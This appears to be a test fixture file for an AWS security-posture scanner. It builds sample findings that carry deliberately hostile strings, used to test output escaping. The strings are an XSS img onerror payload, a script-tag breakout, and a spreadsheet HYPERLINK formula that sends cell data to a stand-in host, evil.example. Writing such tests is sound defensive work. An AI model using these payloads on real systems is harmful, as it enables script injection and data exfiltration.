import { fileURLToPath } from 'node:url';
import type { Finding } from '../../src/engine/findings.js';
import type { ScanResult } from '../../src/scan/result.js';
import { runScan } from '../../src/scan/runScan.js';

/** Resource names and tags an attacker controls, aimed at every output format. */
export const HOSTILE_NAME = '<img src=x onerror=window.__pwned=1>';
export const HOSTILE_TAG = '</script><script>window.__pwned=1</script>';
export const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';

export function finding(over: Partial<Finding> & { id: string }): Finding {
  return {
    ruleId: 'vpc_security_group_ingress_from_internet_to_port_22',
    title: 'Security group allows no SSH (port 22) from the internet',
    status: 'FAIL',
    severity: 'high',
    service: 'vpc',
    topic: 'security-groups',
    resource: { type: 'AWS::EC2::SecurityGroup', id: 'sg-0abc', arn: 'arn:aws:ec2:us-east-1:111122223333:security-group/sg-0abc', name: 'bastion', account: '111122223333', region: 'us-east-1' },
    message: 'bastion (sg-0abc) admits tcp port 22 from 0.0.0.0/0.',
    evidence: { openRules: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22 }] },
    remediation: { text: 'Edit inbound rules.', cli: 'aws ec2 revoke-security-group-ingress --group-id sg-0abc', url: 'https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html' },
    ...over,
  };
}

export function scanResult(findings: Finding[]): ScanResult {
  return {
    schemaVersion: '1.0',
    scan: {
      tool: { name: 'posture', version: '0.1.0' },
      accounts: ['111122223333'],
      regions: ['us-east-1'],
      started: '2026-11-24T07:40:49.180Z',
      finished: '2026-11-24T07:40:58.002Z',
      source: 'inventory',
      collection: [{ account: '111122223333', region: 'us-east-1', collector: 'ec2.securityGroups', state: 'access-denied', message: 'denied <x>', resources: 0, durationMs: 3 }],
      complete: false,
      rulesEvaluated: 3,
      counts: { PASS: findings.filter((f) => f.status === 'PASS').length, FAIL: findings.filter((f) => f.status === 'FAIL').length, ERROR: findings.filter((f) => f.status === 'ERROR').length, MUTED: findings.filter((f) => f.status === 'MUTED').length },
    },
    findings,
  };
}

/** A small result exercising every status and the hostile strings. */
export function hostileResult(): ScanResult {
  return scanResult([
    finding({ id: 'f1', resource: { type: 'AWS::EC2::SecurityGroup', id: 'sg-1', name: HOSTILE_NAME, account: '111122223333', region: 'us-east-1' }, message: `${HOSTILE_NAME} admits port 22 \u0000\u001b[31m` }),
    finding({ id: 'f2', status: 'ERROR', severity: 'medium', message: `could not read ${HOSTILE_TAG}`, evidence: { tag: HOSTILE_TAG } }),
    finding({ id: 'f3', status: 'PASS', severity: 'low', resource: { type: 'AWS::EC2::SecurityGroup', id: HOSTILE_FORMULA, account: '111122223333', region: 'us-east-1' } }),
    finding({ id: 'f4', status: 'MUTED', evidence: { suppression: { originalStatus: 'FAIL', reason: 'accepted <risk>' } } }),
  ]);
}

export const DEMO_INVENTORY = fileURLToPath(new URL('../../demo/inventory.json', import.meta.url));

export async function demoResult(): Promise<ScanResult> {
  return (await runScan({ inventoryFile: DEMO_INVENTORY, includePass: true })).result;
}
